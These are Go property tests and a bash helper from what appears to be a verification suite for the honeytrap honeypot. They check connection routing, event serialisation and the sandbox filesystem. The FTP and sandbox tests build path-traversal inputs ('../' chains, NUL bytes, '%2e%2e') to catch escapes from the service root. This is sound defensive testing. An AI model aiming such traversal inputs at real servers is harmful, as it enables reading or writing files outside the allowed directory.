	if c.Socket {
		srv, err = lab.StartSocket(id, b.String())
	} else {
		srv, err = lab.Start(id, b.String(), false)
	}
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer srv.Stop()
	ids := []string{id}
	for i := range c.Services {
		ids = append(ids, fmt.Sprintf("%s-t%d", id, i))
	}
	defer lab.Forget(ids...)
	var conns []*lab.Conn
	var socks []net.Conn
	for i, hx := range c.Payloads {
		p := vlib.UnHex(hx)
		switch {
		case c.Socket && c.UDP:
			uc, err := net.Dial("udp", fmt.Sprintf("127.0.0.1:%d", base))
			if err != nil {
				return fmt.Errorf("infra: %v", err)
			}
			uc.Write(p)
			socks = append(socks, uc)
		case c.Socket:
			tc, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", base), 3*time.Second)
			if err != nil {
				return fmt.Errorf("infra: dial: %v", err)
			}
			tc.Write(p)
			tc.(*net.TCPConn).CloseWrite()
			socks = append(socks, tc)
		case c.UDP:
			srv.L.SendUDP(&net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: base}, &net.UDPAddr{IP: net.IPv4(203, 0, 113, byte(10+i)), Port: 41000 + i}, p)
		default:
			cn := srv.L.DialTCP(&net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: base}, &net.TCPAddr{IP: net.IPv4(203, 0, 113, byte(10+i)), Port: 41000 + i})
			cn.Send(p)
			cn.CloseWrite()
			conns = append(conns, cn)
		}
	}
	defer func() {
		for _, s := range socks {
			s.Close()
		}
	}()
	for _, cn := range conns {
		if !cn.WaitClosed(15 * time.Second) {
			return fmt.Errorf("a connection was not closed within 15s")
		}
	}
	// every payload must have been read by exactly one service, complete and unmixed;
	// which service is decided by the selection rule on that payload (whole payload in the first chunk)
	deadline := time.Now().Add(8 * time.Second)
	for {
		got := map[string]int{} // data -> service index
		dup := ""
		all := 0
		for i := range c.Services {
			st := lab.GetStub(fmt.Sprintf("%s-t%d", id, i))
			if st == nil {
				return fmt.Errorf("infra: stub missing")
			}
			for _, inv := range st.Invocations() {
				if !inv.Done {
					continue
				}
				all++
				if _, ok := got[string(inv.Data)]; ok {
					dup = string(inv.Data)
				}
				got[string(inv.Data)] = i
			}
		}
		missing := ""
		want := 0
		for _, hx := range c.Payloads {
			p := vlib.UnHex(hx)
			exp := decide(c.Services, p[:min(len(p), 1024)])
			if exp < 0 {
				continue
			}
			want++
			si, ok := got[string(p)]
			if !ok {
				missing = string(p)
				continue
			}
			if si != exp {
				return fmt.Errorf("payload %q was handed to service %d, the selection rule says %d", trunc(p), si, exp)
			}
		}
		if missing == "" && all == want && dup == "" {
			return nil
		}
		if time.Now().After(deadline) {
			if c.Socket && c.UDP && missing != "" && all < want {
				return fmt.Errorf("inconclusive: a datagram was not delivered by the kernel")
			}
			var seen []string
			for d := range got {
				seen = append(seen, fmt.Sprintf("%q", trunc([]byte(d))))
			}
			return fmt.Errorf("with %d overlapping connections the services read %d streams %v; stream %q was never read intact (duplicate=%q): streams were mixed up, truncated or lost", len(c.Payloads), all, seen, trunc([]byte(missing)), trunc([]byte(dup)))
		}
		time.Sleep(3 * time.Millisecond)
	}
}

func TestSelectConcurrent(t *testing.T) {
	r := vlib.Open(prop)
	var cc concCase
	if vlib.ReplayCase("TestSelectConcurrent", &cc) {
		if err := checkConcurrent(cc); err != nil && !strings.HasPrefix(err.Error(), "inconclusive:") {
			r.Violation(t, "TestSelectConcurrent", cc, err.Error())
		}
		return
	}
	r.Rule("2..12 overlapping connections (tcp) or back-to-back datagrams (udp) to one port with 1..3 stub services (detectors first), distinct payloads, services that start reading 0..30 ms late; in-memory listener and, sampled, the real socket listener; oracle = every payload read intact by exactly the service the selection rule names; non-trivial = a detector is consulted")
	r.Rapid(t, "TestSelectConcurrent", r.Pick(300, 4000), func(rt *rapid.T) {
		c := concCase{UDP: rapid.IntRange(0, 3).Draw(rt, "udp") == 0}
		c.Socket = rapid.IntRange(0, 9).Draw(rt, "socket") == 0
		if c.Socket {
			// every socket-listener server leaves its listening sockets behind (the listener
			// has no Close): a bounded number per process, from a bounded port range
			if socketCases++; socketCases > 100 {
				c.Socket = false
			}
		}
		ns := rapid.IntRange(1, 3).Draw(rt, "nsvc")
		for i := 0; i < ns; i++ {
			if i == ns-1 && rapid.Bool().Draw(rt, "lastplain") {
				c.Services = append(c.Services, svc{Kind: "plain"})
			} else {
				c.Services = append(c.Services, svc{Kind: "detect", Prefix: rapid.SampledFrom([]string{"A", "B", "", "AB"}).Draw(rt, "prefix")})
			}
		}
		c.DelayMs = rapid.SampledFrom([]int{0, 0, 5, 30}).Draw(rt, "delay")
		k := rapid.IntRange(2, 12).Draw(rt, "conns")
		for i := 0; i < k; i++ {
			head := rapid.SampledFrom([]string{"A", "B", "AB", "C"}).Draw(rt, "head")
			n := rapid.SampledFrom([]int{3, 40, 300, 900}).Draw(rt, "len")
			p := []byte(fmt.Sprintf("%s-conn%02d-", head, i))
			for len(p) < n {
				p = append(p, byte('a'+i))
			}
			c.Payloads = append(c.Payloads, vlib.Hex(p))
		}
		fp := ""
		if len(c.Services) >= 2 {
			fp = vlib.JSON(c)
		}
		tr := "mem"
		if c.Socket {
			tr = "socket"
		}
		pr := "tcp"
		if c.UDP {
			pr = "udp"
		}
		r.Case(fmt.Sprintf("concurrent/%s/%s", tr, pr), fp, func() interface{} {
			return map[string]interface{}{"services": c.Services, "connections": k, "delay_ms": c.DelayMs, "transport": tr, "proto": pr}
		})
		if err := checkConcurrent(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			if strings.HasPrefix(err.Error(), "inconclusive:") {
				r.Label("inconclusive/udp-datagram-not-delivered", 1)
				return
			}
			r.Fail(rt, "TestSelectConcurrent", c, "%v", err)
		}
	})
}
