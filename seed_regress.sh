#!/bin/bash
# seed_regress.sh [Cxx ...] - re-evaluate the stored seeded changes (/verif/seeded/<ID>-<tag><N>/) of the
# given properties (default: all) against the current checks; results go to the seeds' meta.json and
# to stdout in seedcheck's format (=== line per seed).
cd /verif
PROPS="$@"; [ -z "$PROPS" ] && PROPS=$(ls seeded | sed 's/-.*//' | sort -u)
for P in $PROPS; do
  for D in seeded/$P-*; do
    [ -f $D/patch.diff ] || continue
    NAME=$(basename $D); REST=${NAME#$P-}; N=${REST##*-}; TAG=${REST%$N}
    S=/tmp/seedstore-$$-; rm -rf $S$P; mkdir -p $S$P/SEEDED/$N
    cp $D/patch.diff $S$P/SEEDED/$N/; cp -r $D/demo $S$P/SEEDED/$N/demo; cp $D/README.agent.md $S$P/SEEDED/$N/README.md 2>/dev/null
    KEEP=$(python3 -c "import json;m=json.load(open('$D/meta.json'));print(json.dumps({k:m[k] for k in m if k in ('rebased','note','needs_tier','also_run')}))" 2>/dev/null)
    echo "######## $NAME"
    SEED_SRC_PREFIX=$S SEED_TAG=$TAG SEEDCHECK_TIER=$(python3 -c "import json;print(json.load(open('$D/meta.json')).get('needs_tier','quick'))" 2>/dev/null || echo quick) ./seedcheck.sh $P $N $(python3 -c "import json;print(' '.join(json.load(open('$D/meta.json')).get('also_run',[])))" 2>/dev/null)
    [ -n "$KEEP" ] && python3 - "$D/meta.json" "$KEEP" <<'PY'
import json,sys
m=json.load(open(sys.argv[1])); m.update(json.loads(sys.argv[2])); json.dump(m,open(sys.argv[1],'w'),indent=1)
PY
    rm -rf $S$P
  done
done
