package c05

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/lab"
	"verif/svc"
	"verif/vlib"
)

// Every event the services emit while the protocol grammars (and their mutations) are
// replayed must serialise with all its keys, and its payload / address fields must be
// consistent with each other and with the connection.
type svcCase struct {
	Service string   `json:"service"`
	UDP     bool     `json:"udp"`
	Units   []string `json:"units_hex"`
	Kind    string   `json:"kind"`
}

func checkServiceEvents(c svcCase) (int, error) {
	in, err := svc.Shared()
	if err != nil {
		return 0, fmt.Errorf("infra: %v", err)
	}
	sc := &svc.Script{Service: c.Service, UDP: c.UDP}
	for _, u := range c.Units {
		sc.Steps = append(sc.Steps, svc.Step{Data: vlib.UnHex(u)})
	}
	se, _ := in.RunOne(sc, 10*time.Second)
	in.Cap.Settle(4*time.Millisecond, 120*time.Millisecond)
	evs := se.Events()
	for _, e := range evs {
		if e.SerErr != "" {
			return len(evs), fmt.Errorf("%s event cannot be serialised by the channels: %s; event=%s", c.Service, e.SerErr, e.Canon("payload", "payload-hex", "stacktrace"))
		}
		if e.Has("payload-hex") {
			raw, err := hex.DecodeString(e.Str("payload-hex"))
			if err != nil {
				return len(evs), fmt.Errorf("%s event has an undecodable payload-hex %q", c.Service, e.Str("payload-hex"))
			}
			if e.Has("payload-length") && e.Str("payload-length") != fmt.Sprint(len(raw)) {
				return len(evs), fmt.Errorf("%s event payload-length=%s but payload-hex decodes to %d bytes", c.Service, e.Str("payload-length"), len(raw))
			}
			if p, ok := e.M["payload"].(string); ok && !bytes.Equal([]byte(p), raw) {
				return len(evs), fmt.Errorf("%s event payload and payload-hex differ", c.Service)
			}
			// the recorded payload must consist of bytes the client sent on this connection
			var sent []byte
			for _, u := range c.Units {
				sent = append(sent, vlib.UnHex(u)...)
			}
			if len(raw) > 0 && !bytes.Contains(sent, raw) && !c.UDP && c.Service != "adb" && c.Service != "https" && c.Service != "ssh-simulator" && c.Service != "ssh-auth" {
				return len(evs), fmt.Errorf("%s event payload %q is not a contiguous part of what the client sent", c.Service, clipS(string(raw)))
			}
		}
		if e.Str("destination-port") != "" && e.Str("destination-port") != fmt.Sprint(svc.PortOf(c.Service).Port) {
			return len(evs), fmt.Errorf("%s event destination-port=%s, connection's is %d", c.Service, e.Str("destination-port"), svc.PortOf(c.Service).Port)
		}
		if e.Str("destination-ip") != "" && e.Str("destination-ip") != svc.ServerIP.String() {
			return len(evs), fmt.Errorf("%s event destination-ip=%s, connection's is %s", c.Service, e.Str("destination-ip"), svc.ServerIP)
		}
	}
	return len(evs), nil
}

func clipS(s string) string {
	if len(s) > 60 {
		return s[:60] + "..."
	}
	return s
}

func TestServiceEvents(t *testing.T) {
	r := vlib.Open(prop)
	var sc svcCase
	if vlib.ReplayCase("TestServiceEvents", &sc) {
		if _, err := checkServiceEvents(sc); err != nil {
			r.Violation(t, "TestServiceEvents", sc, err.Error())
		}
		return
	}
	r.Rule("service-emitted events: grammar dialogues and their mutations for the 22 services that are safe to drive in-process are replayed through the real server; every captured event of the connection must serialise both ways with all keys, have consistent payload/payload-hex/payload-length taken from the client's bytes, and carry the connection's destination address; non-trivial = >=1 event captured")
	services := []string{"adb", "counterstrike", "cwmp", "dns", "docker", "echo", "elasticsearch", "eos", "ethereum", "ftp", "http", "ipp", "ldap", "memcached", "ntp", "redis", "smtp", "snmp", "telnet", "tftp", "vnc", "https"}
	r.Rapid(t, "TestServiceEvents", r.Pick(400, 6000), func(rt *rapid.T) {
		service := rapid.SampledFrom(services).Draw(rt, "service")
		tr := svc.GenTraffic(rt, service)
		if tr.SSH != nil {
			rt.Skip("ssh client scripts are exercised in the lab child")
		}
		units := tr.Units
		kind := "grammar"
		if rapid.IntRange(0, 2).Draw(rt, "mutate") == 0 {
			units, _ = svc.Mutate(rt, units)
			kind = "mutated"
		}
		c := svcCase{Service: service, UDP: tr.UDP, Kind: kind}
		for _, u := range units {
			c.Units = append(c.Units, vlib.Hex(u))
		}
		n, err := checkServiceEvents(c)
		fp := ""
		if n > 0 {
			fp = vlib.JSON(c)
		}
		r.Case("service-events/"+service+"/"+kind, fp, func() interface{} {
			return map[string]interface{}{"service": service, "kind": kind, "events": n}
		})
		if err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestServiceEvents", c, "%v", err)
		}
	})
}

var _ = lab.NextID
