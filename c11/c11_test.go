package c11

import (
	"bufio"
	"crypto/tls"
	"bytes"
	"crypto/sha1"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/honeytrap/honeytrap/services/filesystem"
	"pgregory.net/rapid"

	"verif/lab"
	"verif/svc"
	"verif/vlib"
)

const prop = "C11"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

// ---------------------------------------------------------------- (a) the sandbox filesystem directly

type pathCase struct {
	Cwd  []string `json:"cwd_changes"` // ChangeDir calls made first
	Path string   `json:"path"`
}

func inside(root, p string) bool {
	rel, err := filepath.Rel(root, p)
	if err != nil {
		return false
	}
	return rel == "." || (rel != ".." && !strings.HasPrefix(rel, "../") && !filepath.IsAbs(rel))
}

func mkTree(root string) {
	for _, d := range []string{"a", "a/b", "a/b/a", "b"} {
		os.MkdirAll(filepath.Join(root, d), 0755)
	}
	os.WriteFile(filepath.Join(root, "f"), []byte("inside"), 0644)
}

func newFs(dir string) (*filesystem.Htfs, string, error) {
	base := filepath.Join(dir, "base")
	if err := os.MkdirAll(filepath.Join(base, "svc", "root"), 0755); err != nil {
		return nil, "", err
	}
	root := filepath.Join(base, "svc", "root")
	mkTree(root)
	// siblings an escape would land in
	os.MkdirAll(filepath.Join(base, "svc", "rootx", "a"), 0755)
	os.MkdirAll(filepath.Join(base, "svc", "a"), 0755)
	os.MkdirAll(filepath.Join(base, "a", "b"), 0755)
	fs, err := filesystem.New(base, "svc", "root")
	return fs, root, err
}

func checkPath(fs *filesystem.Htfs, root string, c pathCase) error {
	for _, d := range c.Cwd {
		fs.ChangeDir(d) // may fail, that is fine
		cwd := fs.Cwd()
		if !filepath.IsAbs(cwd) || filepath.Clean(cwd) != cwd {
			return fmt.Errorf("after ChangeDir(%q) the working directory is %q (not absolute and clean)", d, cwd)
		}
		if !inside(root, filepath.Join(root, cwd)) {
			return fmt.Errorf("after ChangeDir(%q) the working directory %q denotes a location outside the root", d, cwd)
		}
		if st, err := os.Stat(filepath.Join(root, cwd)); err != nil || !st.IsDir() {
			return fmt.Errorf("after ChangeDir(%q) the working directory %q is not an existing directory under the root", d, cwd)
		}
	}
	rp := fs.RealPath(c.Path)
	if !inside(root, rp) {
		return fmt.Errorf("RealPath(%q) from cwd %q = %q lies outside root %q", c.Path, fs.Cwd(), rp, root)
	}
	return nil
}

func resetCwd(fs *filesystem.Htfs) { fs.ChangeDir("/") }

func TestRealPathExhaustive(t *testing.T) {
	r := vlib.Open(prop)
	dir, _ := os.MkdirTemp("", "c11fs")
	defer os.RemoveAll(dir)
	fs, root, err := newFs(dir)
	if err != nil {
		t.Fatalf("infra: %v", err)
	}
	var pc pathCase
	if vlib.ReplayCase("TestRealPathExhaustive", &pc) {
		if err := checkPath(fs, root, pc); err != nil {
			r.Violation(t, "TestRealPathExhaustive", pc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	if i, _ := r.Shard(); i != 0 {
		return
	}
	comps := []string{"a", "b", "..", ".", ""}
	depth := r.Pick(5, 6)
	r.Rule(fmt.Sprintf("sandbox filesystem: ALL path strings of 1..%d components over {a, b, .., ., ''} absolute and relative (so incl. repeated and trailing separators), resolved from EVERY reachable working directory of a small tree (reached through ChangeDir with the same strings); oracle = RealPath lexically inside the root, working directory absolute, clean, existing and inside; non-trivial = path contains '..' or is absolute", depth))
	var paths []string
	var rec func(prefix []string)
	rec = func(prefix []string) {
		if len(prefix) > 0 {
			p := strings.Join(prefix, "/")
			paths = append(paths, p, "/"+p)
		}
		if len(prefix) == depth {
			return
		}
		for _, c := range comps {
			rec(append(append([]string{}, prefix...), c))
		}
	}
	rec(nil)
	cwds := []string{"/", "/a", "/a/b", "/a/b/a", "/b"}
	var n, nt int64
	for _, w := range cwds {
		for _, p := range paths {
			resetCwd(fs)
			c := pathCase{Cwd: []string{w}, Path: p}
			n++
			if strings.Contains(p, "..") || strings.HasPrefix(p, "/") {
				nt++
			}
			if err := checkPath(fs, root, c); err != nil {
				r.Violation(t, "TestRealPathExhaustive", c, err.Error())
				return
			}
			// the same string as a directory change, then the resulting cwd must hold the invariant
			c2 := pathCase{Cwd: []string{w, p}, Path: "."}
			resetCwd(fs)
			n++
			if err := checkPath(fs, root, c2); err != nil {
				r.Violation(t, "TestRealPathExhaustive", c2, err.Error())
				return
			}
		}
	}
	r.Bulk(fmt.Sprintf("realpath/exhaustive-depth<=%d", depth), n, nt)
	r.Sample("realpath/exhaustive", pathCase{Cwd: []string{"/a/b"}, Path: "../../../..//a/./b"})
	r.Exhaustive(fmt.Sprintf("all %d path strings of <= %d components from 5 working directories, as RealPath argument and as ChangeDir argument", len(paths), depth))
}

func TestRealPathSampled(t *testing.T) {
	r := vlib.Open(prop)
	dir, _ := os.MkdirTemp("", "c11fs")
	defer os.RemoveAll(dir)
	fs, root, err := newFs(dir)
	if err != nil {
		t.Fatalf("infra: %v", err)
	}
	var pc pathCase
	if vlib.ReplayCase("TestRealPathSampled", &pc) {
		if err := checkPath(fs, root, pc); err != nil {
			r.Violation(t, "TestRealPathSampled", pc, err.Error())
		}
		return
	}
	r.Rule("sampled long/odd paths (NUL, backslash, 4 KiB, many '..', mixed separators) after random ChangeDir histories")
	odd := []string{"a", "b", "..", ".", "", "...", "..a", "a..", "\x00", "..\x00", "\\..", "..\\..", " ", "~", "a b", strings.Repeat("x", 255), strings.Repeat("../", 40), "%2e%2e", "．．"}
	r.Rapid(t, "TestRealPathSampled", r.Pick(20000, 300000), func(rt *rapid.T) {
		resetCwd(fs)
		var c pathCase
		for k := rapid.IntRange(0, 4).Draw(rt, "nchanges"); k > 0; k-- {
			c.Cwd = append(c.Cwd, genPath(rt, odd))
		}
		c.Path = genPath(rt, odd)
		fp := ""
		if strings.Contains(c.Path, "..") || strings.HasPrefix(c.Path, "/") {
			fp = vlib.JSON(c)
		}
		r.Case("realpath/sampled", fp, func() interface{} { return c })
		if err := checkPath(fs, root, c); err != nil {
			r.Fail(rt, "TestRealPathSampled", c, "%v", err)
		}
	})
}

func genPath(t *rapid.T, alphabet []string) string {
	n := rapid.IntRange(1, 12).Draw(t, "ncomp")
	parts := make([]string, n)
	for i := range parts {
		parts[i] = rapid.SampledFrom(alphabet).Draw(t, "comp")
	}
	p := strings.Join(parts, "/")
	if rapid.Bool().Draw(t, "abs") {
		p = "/" + p
	}
	return p
}

// ---------------------------------------------------------------- (b) end to end through the real FTP service

type ftpStep struct {
	Cmd  string `json:"cmd"`
	Arg  string `json:"arg"`
	Arg2 string `json:"arg2,omitempty"` // RNTO target
	Data string `json:"data,omitempty"` // upload content
}

type ftpCase struct {
	Steps []ftpStep `json:"steps"`
	// Twins: the root is pre-populated with "twins" of outside names: for every sentinel file the
	// file the CORRECT (clamped) resolution of its escaping path denotes inside the root, and a
	// directory chain mirroring the sentinel's absolute host path. A driver operation that uses the
	// client's raw string as a host path then finds its existence checks satisfied inside while the
	// effect lands outside.
	Twins bool `json:"twins,omitempty"`
}

const insideContent = "inside-the-root twin"

// mkFTPTree populates the FTP root: the small tree plus files in the sub-directories (so that a
// relative name exists after directory changes too) and, with twins, the inside counterparts of
// the outside names.
func mkFTPTree(root string, twins bool, sentinels []string) {
	mkTree(root)
	for _, f := range []string{"a/f", "a/b/f", "b/f"} {
		os.WriteFile(filepath.Join(root, f), []byte("inside"), 0644)
	}
	if !twins {
		return
	}
	for _, s := range sentinels {
		// clamped relative resolution: ../SENTINEL/x -> <root>/SENTINEL/x; absolute host path
		// taken as a sandbox path: <root>/<abs path of the sentinel>/x
		for _, d := range []string{filepath.Join(root, filepath.Base(s)), filepath.Join(root, s)} {
			os.MkdirAll(filepath.Join(d, "a"), 0755)
			os.WriteFile(filepath.Join(d, "secret.txt"), []byte(insideContent), 0644)
			os.WriteFile(filepath.Join(d, "a", "f"), []byte(insideContent), 0644)
		}
	}
}

// expand replaces the instance-dependent placeholders of a generated path: {ROOT} = name of the
// root directory, {ABS} = absolute host path of the first sentinel tree.
func expand(arg, root, abs string) string {
	arg = strings.ReplaceAll(arg, "{ROOT}", filepath.Base(root))
	return strings.ReplaceAll(arg, "{ABS}", abs)
}

const magic = "SENTINEL-MAGIC-CONTENT-c11"
const markerName = "only-outside-the-root.c11-marker"
const markerDir = "only-outside-the-root.c11-marker-dir"

// survey: what exists on one side of the root boundary - entry names, and the sizes and
// modification times (in MDTM format) SIZE / MDTM could answer with.
type survey struct {
	names, sizes, mtimes map[string]bool
}

const mdtmLayout = "20060102150405"

func newSurvey() *survey {
	return &survey{names: map[string]bool{}, sizes: map[string]bool{}, mtimes: map[string]bool{}}
}

func (s *survey) addMeta(info os.FileInfo) {
	s.sizes[strconv.FormatInt(info.Size(), 10)] = true
	s.mtimes[info.ModTime().Format(mdtmLayout)] = true
}

// surveyOutside: the names of everything under base that is not under root; the root directory
// itself is an entry of its parent, so its name (not its content) belongs to the outside. Sizes
// and times are those of the files writeOutside made distinctive (added by the caller).
func surveyOutside(base, root string) *survey {
	s := newSurvey()
	filepath.Walk(base, func(p string, info os.FileInfo, err error) error {
		if err != nil || p == base {
			return nil
		}
		s.names[info.Name()] = true
		if p == root {
			return filepath.SkipDir
		}
		return nil
	})
	return s
}

// surveyInside: every entry under root - files and directories - and the root itself (its name
// excepted).
func surveyInside(root string) *survey {
	s := newSurvey()
	filepath.Walk(root, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		if p != root {
			s.names[info.Name()] = true
		}
		s.addMeta(info)
		return nil
	})
	return s
}

// outsideNamesIn returns the names in a LIST / NLST payload that exist outside the root and
// nowhere inside it (at this moment): such a name can only come from a directory outside.
func outsideNamesIn(data []byte, out, in *survey) []string {
	var hits []string
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimRight(line, "\r")
		if line == "" {
			continue
		}
		for name := range out.names {
			if in.names[name] {
				continue
			}
			// NLST: the line is the name; LIST: "<mode><size> <date> <name>"
			if line == name || strings.HasSuffix(line, " "+name) {
				hits = append(hits, name)
			}
		}
	}
	sort.Strings(hits)
	return hits
}

type snapshot map[string]string

func snap(dirs ...string) snapshot {
	s := snapshot{}
	for _, d := range dirs {
		filepath.Walk(d, func(p string, info os.FileInfo, err error) error {
			if err != nil {
				return nil
			}
			if info.IsDir() {
				s[p] = "dir"
				return nil
			}
			data, _ := os.ReadFile(p)
			s[p] = fmt.Sprintf("%d:%x", info.Size(), sha1.Sum(data))
			return nil
		})
	}
	return s
}

func diff(a, b snapshot) string {
	var out []string
	for k, v := range a {
		if b[k] != v {
			out = append(out, fmt.Sprintf("%s: %s -> %q", k, v, b[k]))
		}
	}
	for k, v := range b {
		if _, ok := a[k]; !ok {
			out = append(out, fmt.Sprintf("%s: created (%s)", k, v))
		}
	}
	sort.Strings(out)
	return strings.Join(out, "; ")
}

var pasvRx = regexp.MustCompile(`\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)`)

type ftpClient struct {
	conn *lab.Conn
	off  int
}

// cmd sends a line and returns the reply lines that arrive until the server is idle.
func (f *ftpClient) cmd(line string) ([]string, error) {
	f.conn.Send([]byte(line + "\r\n"))
	if f.conn.WaitIdle(10*time.Second) == lab.Busy {
		return nil, fmt.Errorf("no reply to %q within 10s", line)
	}
	return f.newLines(), nil
}

func (f *ftpClient) newLines() []string {
	out := f.conn.Output()
	fresh := out[f.off:]
	f.off = len(out)
	var ls []string
	sc := bufio.NewScanner(bytes.NewReader(fresh))
	for sc.Scan() {
		ls = append(ls, sc.Text())
	}
	return ls
}

func checkFTP(c ftpCase) error {
	if os.Getenv("C11_DEBUG") != "" {
		t0 := time.Now()
		defer func() {
			if d := time.Since(t0); d > time.Second {
				fmt.Fprintf(os.Stderr, "SLOW %v %s\n", d, vlib.JSON(c))
			}
		}()
	}
	in, err := svc.StartInstance([]string{"ftp"})
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer in.Srv.Stop()
	// the service made its root under <fs_base>/ftp/<unique>
	ents, err := os.ReadDir(filepath.Join(in.FsBase, "ftp"))
	if err != nil || len(ents) != 1 {
		return fmt.Errorf("infra: cannot find the ftp root under %s: %v", in.FsBase, err)
	}
	root := filepath.Join(in.FsBase, "ftp", ents[0].Name())
	// sentinel trees beside the root
	sentinels := []string{
		filepath.Join(in.FsBase, "ftp", "SENTINEL"),         // ../SENTINEL
		filepath.Join(in.FsBase, "ftp", ents[0].Name()+"x"), // a sibling whose name extends the root's name
		filepath.Join(in.FsBase, "SENTINEL-UP2"),            // ../../
	}
	mkFTPTree(root, c.Twins, sentinels)
	// A client path that reaches the host unresolved denotes either an absolute host path or a
	// path relative to the working directory of the server process. The server runs in this
	// process: for the duration of the case the process works in a sentinel directory that is a
	// SIBLING of the root (so the escaping relative paths denote the other sentinels from there
	// as well) and holds the same names as the root does, with sentinel content.
	procCwd := filepath.Join(in.FsBase, "ftp", "PROC-CWD")
	for _, d := range []string{"a/b/a", "b"} {
		os.MkdirAll(filepath.Join(procCwd, d), 0755)
	}
	// every regular file outside the root gets a size and a modification time no file inside the
	// root has (inside: a few dozen bytes, written now), so that a SIZE / MDTM answer taken from an
	// outside file is recognisable
	nOutside := 0
	var outsideFiles []string
	writeOutside := func(path, content string) {
		outsideFiles = append(outsideFiles, path)
		nOutside++
		if pad := 5000 + 13*nOutside - len(content); pad > 0 {
			content += strings.Repeat(" ", pad)
		}
		os.WriteFile(path, []byte(content), 0644)
		mt := time.Date(2001, 2, 3, 4, 5, 0, 0, time.Local).Add(time.Duration(nOutside) * 61 * time.Second)
		os.Chtimes(path, mt, mt)
	}
	for _, f := range []string{"f", "a/f", "a/b/f", "b/f", "new", markerName, "a/" + markerName} {
		writeOutside(filepath.Join(procCwd, f), magic+" proc-cwd")
	}
	orig, err := os.Getwd()
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	if err := os.Chdir(procCwd); err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer os.Chdir(orig)
	abs := sentinels[0]
	for _, s := range sentinels {
		os.MkdirAll(filepath.Join(s, "a"), 0755)
		writeOutside(filepath.Join(s, "secret.txt"), magic+" "+filepath.Base(s))
		writeOutside(filepath.Join(s, "a", "f"), magic)
		// a name no generated command can create inside the root: seeing it in a listing
		// proves the listing came from outside
		writeOutside(filepath.Join(s, markerName), magic)
		writeOutside(filepath.Join(s, "a", markerName), magic)
	}
	writeOutside(filepath.Join(in.FsBase, "f"), magic)
	watched := append(append([]string{}, sentinels...), filepath.Join(in.FsBase, "f"), procCwd)
	// the directories the root hangs in (its parent and grandparent) hold such names as well, next
	// to the names they have anyway (the sentinel directories, the root's own name, PROC-CWD)
	for _, d := range []string{filepath.Join(in.FsBase, "ftp"), in.FsBase} {
		writeOutside(filepath.Join(d, markerName), magic)
		os.MkdirAll(filepath.Join(d, markerDir), 0755)
		watched = append(watched, filepath.Join(d, markerName), filepath.Join(d, markerDir))
	}
	before := snap(watched...)
	outsideBefore := listOutside(in.FsBase, root)
	out := surveyOutside(in.FsBase, root)
	for _, f := range outsideFiles {
		if info, err := os.Lstat(f); err == nil {
			out.addMeta(info)
		}
	}
	// absolute arguments taken as host paths outside the instance's directory: must not come into being
	hostAbs := map[string]bool{}
	for _, st := range c.Steps {
		if st.Cmd == "REST" {
			continue
		}
		for _, a := range []string{st.Arg, st.Arg2} {
			a = filepath.Clean(expand(a, root, abs))
			if filepath.IsAbs(a) && !inside(in.FsBase, a) {
				if _, err := os.Lstat(a); os.IsNotExist(err) {
					hostAbs[a] = true
				}
			}
		}
	}

	sc := &svc.Script{Service: "ftp"}
	se := in.Open(sc)
	fc := &ftpClient{conn: se.Conn}
	se.Conn.WaitIdle(5 * time.Second)
	fc.newLines()
	for _, l := range []string{"USER anonymous", "PASS anonymous", "TYPE I"} {
		if _, err := fc.cmd(l); err != nil {
			return fmt.Errorf("infra: %v", err)
		}
	}
	var leaked []string
	// mutated: a rename or removal was attempted, after which the working directory may name a
	// directory that is gone (the statement does not ask for the reported directory to exist)
	mutated := false
	// data channel: file content or directory listings; control channel: replies (which echo
	// the client's own argument, so only the sentinel files' CONTENT counts there)
	noteData := func(what string, data []byte) {
		reply := strings.HasSuffix(what, " reply")
		if bytes.Contains(data, []byte(magic)) || (!reply && bytes.Contains(data, []byte(markerName))) {
			leaked = append(leaked, fmt.Sprintf("%s returned data from outside the root: %q", what, clip(data)))
		}
	}
	for _, st := range c.Steps {
		if se.Conn.IsClosed() {
			break
		}
		line := st.Cmd
		if st.Arg != "" || st.Cmd == "CWD" || st.Cmd == "MKD" {
			line += " " + expand(st.Arg, root, abs)
		}
		switch st.Cmd {
		case "LIST", "NLST", "RETR", "STOR", "APPE":
			rep, err := fc.cmd("PASV")
			if err != nil || len(rep) == 0 {
				continue
			}
			m := pasvRx.FindStringSubmatch(strings.Join(rep, " "))
			if m == nil {
				continue
			}
			p1, _ := strconv.Atoi(m[5])
			p2, _ := strconv.Atoi(m[6])
			raw, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", p1*256+p2), 3*time.Second)
			if err != nil {
				continue
			}
			// the service wraps its passive data sockets in TLS whenever it has a certificate
			dc := tls.Client(raw, &tls.Config{InsecureSkipVerify: true})
			raw.SetDeadline(time.Now().Add(15 * time.Second))
			se.Conn.Send([]byte(line + "\r\n"))
			if st.Cmd == "STOR" || st.Cmd == "APPE" {
				// when the target is refused the server never touches the data socket
				raw.SetDeadline(time.Now().Add(1500 * time.Millisecond))
				dc.Write([]byte(st.Data))
				dc.Close()
				se.Conn.WaitIdle(10 * time.Second)
			} else {
				// reading drives the TLS handshake the server's write is waiting for; the
				// server closes the data connection when it is done
				raw.SetDeadline(time.Now().Add(3 * time.Second))
				data, _ := io.ReadAll(dc)
				dc.Close()
				noteData(line, data)
				if st.Cmd == "LIST" || st.Cmd == "NLST" {
